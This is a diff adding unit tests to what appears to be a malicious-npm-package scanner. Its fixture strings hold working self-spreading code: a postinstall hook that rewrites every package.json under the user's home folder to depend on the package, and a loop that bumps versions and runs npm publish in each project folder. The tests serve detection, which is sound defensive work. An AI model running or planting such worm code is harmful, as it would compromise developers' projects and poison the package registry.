@@ -1970,3 +1970,29 @@ describe('persistence through login items, scheduled-task cmdlets and editor ext
     ).toBe(false);
   });
 });
+
+describe('spreading to the projects it finds', () => {
+  it('every package.json globbed from home rewritten to depend on this package', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'helpful-utils-x',
+        version: '1.0.0',
+        scripts: { postinstall: 'node index.js' },
+      }),
+      'index.js': `const glob = require('glob'); const fs = require('fs'); const os = require('os');
+for (const f of glob.sync(os.homedir() + '/**/package.json', { ignore: '**/node_modules/**' })) {
+  const m = JSON.parse(fs.readFileSync(f, 'utf8')); m.dependencies = { ...(m.dependencies || {}), 'helpful-utils-x': '^1.0.0' }; fs.writeFileSync(f, JSON.stringify(m, null, 2));
+}`,
+    });
+    expect(r.evidence.find((f) => f.rule === 'js.infect-installed-package')?.line).toBe(3);
+  });
+  it('npm publish run in each project folder it lists is self-propagation at run time too', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs'); const path = require('path'); const os = require('os'); const { execSync } = require('child_process');
+const root = path.join(os.homedir(), 'projects');
+for (const d of fs.readdirSync(root)) execSync('npm version patch --no-git-tag-version && npm publish', { cwd: path.join(root, d), stdio: 'ignore' });`,
+    });
+    expect(r.evidence.find((f) => f.rule === 'js.exec-npm-publish')?.confidence).toBeGreaterThanOrEqual(0.8);
+  });
+});
